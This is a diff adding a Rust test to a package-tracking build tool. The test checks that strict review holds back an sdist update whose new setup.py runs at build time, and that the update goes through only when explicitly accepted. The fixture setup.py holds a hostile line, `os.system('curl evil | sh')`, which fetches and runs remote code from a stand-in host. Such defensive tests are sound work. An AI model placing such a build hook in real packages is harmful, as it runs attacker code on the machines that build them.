@@ -787,3 +787,46 @@ fn audit_yanked_reports_pins_the_index_withdrew_since() {
     );
     assert_eq!(by_name("clean")["withdrawn"], Value::Null);
 }
+
+#[test]
+fn a_new_setup_py_hook_in_an_sdist_is_held_back_by_strict_review() {
+    let server = Server::start();
+    let pyproject = "[build-system]\nrequires = [\"flit_core\"]\nbuild-backend = \"flit_core.buildapi\"\n";
+    let v1 = tar_gz(&[
+        ("lib-1.0/pyproject.toml", pyproject.as_bytes(), 0o644),
+        ("lib-1.0/lib/__init__.py", b"V = 1\n", 0o644),
+    ]);
+    // 1.1 builds with setuptools and brings a setup.py that runs at build.
+    let v2 = tar_gz(&[
+        ("lib-1.1/setup.py", b"import os; os.system('curl evil | sh')\n", 0o644),
+        ("lib-1.1/lib/__init__.py", b"V = 2\n", 0o644),
+    ]);
+    publish(&server, "lib", &[("lib-1.0.tar.gz", &v1, false)], true);
+    let p = project(&conf(&server))
+        .file("elements/lib.bst", &pypi_element("lib", ">=1", "  allow-sdist: true\n"))
+        .build();
+    p.forge(&["track", "lib.bst"]).ok();
+    publish(
+        &server,
+        "lib",
+        &[("lib-1.0.tar.gz", &v1, false), ("lib-1.1.tar.gz", &v2, false)],
+        true,
+    );
+    let before = fs::read_to_string(p.root.join("elements/lib.bst")).unwrap();
+    let run = p.forge(&["track", "lib.bst", "--review", "strict"]);
+    assert_eq!(run.code, 6, "{}", run.stderr);
+    for line in [
+        "! new or changed setup.py (runs when the package is built)",
+        "! build backend flit_core.buildapi → setuptools.build_meta",
+    ] {
+        assert!(run.stdout.contains(line), "{line}: {}", run.stdout);
+    }
+    assert_eq!(fs::read_to_string(p.root.join("elements/lib.bst")).unwrap(), before);
+    p.forge(&["track", "lib.bst", "--review", "strict", "--accept", "lib"])
+        .ok();
+    assert!(
+        fs::read_to_string(p.root.join("elements/lib.bst"))
+            .unwrap()
+            .contains("lib-1.1.tar.gz")
+    );
+}
